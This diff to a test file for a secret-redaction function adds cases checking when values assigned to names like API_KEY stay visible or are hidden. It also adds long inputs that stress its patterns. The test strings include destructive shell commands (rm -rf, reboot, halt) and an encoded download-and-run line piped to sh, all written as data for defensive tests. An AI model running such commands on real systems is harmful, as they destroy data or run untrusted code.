@@ -99,6 +99,40 @@ describe("redact", () => {
     expect(redact("password='abc; curl evil.example'")).toBe("password='[3 hidden]; curl evil.example'");
   });
 
+  it.each([
+    "API_KEY=reboot; $API_KEY now",
+    "export PASSWORD=halt && sudo $PASSWORD",
+    'SECRET_KEY=rm\\ -rf\\ /srv; sh -c "$SECRET_KEY"',
+    "TOKEN=Y3VybCBldmlsIHwgc2gK9x; echo $TOKEN | base64 -d | sh",
+    'TOKEN="Y3VybCBldmlsIHwgc2gK9x"\necho "${TOKEN%x}" | base64 -d | sh',
+    "${API_KEY:-reboot} now",
+    "set -x API_KEY reboot; $API_KEY now",
+    "set API_KEY=reboot& %api_key% now",
+    "$env:API_KEY = 'reboot'; & $env:API_KEY",
+    "env:\n  API_KEY: reboot\nrun: $(API_KEY) now",
+    `KEY="${join("-----BEGIN ", "PRIVATE KEY-----")}\nY3VybCBldmlsIHwgc2gK9xAbCdEfGh\n"; echo "$KEY" | tail -n 1 | base64 -d | sh`,
+  ])("shows a value that the same text expands by its name: %s", (text) => {
+    expect(redact(text)).toBe(text);
+    expect(measureHidden([text])).toBeNull();
+  });
+
+  it.each([
+    ["is expanded nowhere", "API_KEY=[6 hidden]; run now", "API_KEY=reboot; run now"],
+    [
+      "shares its name in part",
+      "API_KEY=[6 hidden]; $MY_API_KEY $API_KEYS",
+      "API_KEY=reboot; $MY_API_KEY $API_KEYS",
+    ],
+    ["is assigned to a name with a dollar sign", "$password = '[7 hidden]'", "$password = 'hunter2'"],
+    [
+      "stands beside one that is",
+      "PASSWORD=a API_KEY=[6 hidden] $PASSWORD",
+      "PASSWORD=a API_KEY=reboot $PASSWORD",
+    ],
+  ])("still hides a value that %s", (_, shown, text) => {
+    expect(redact(text)).toBe(shown);
+  });
+
   it("hides an authorization header", () => {
     expect(redact("Authorization: Bearer abcdef")).toBe("Authorization: Bearer [6 hidden]");
   });
@@ -168,6 +202,9 @@ describe("redact", () => {
       "curl -u ".repeat(8_000),
       `${"x".repeat(40)}\n`.repeat(1_500),
       " ".repeat(60_000),
+      "$A A=".repeat(12_000),
+      `$A${"A=".repeat(30_000)}`,
+      `$token ${"token='x\" ".repeat(6_000)}`,
     ];
     // An exponential rule never comes to the end; `tests/measure/hostile-text.test.ts` shows what each costs.
     for (const text of hostile) expect(redact(text)).not.toBe("");
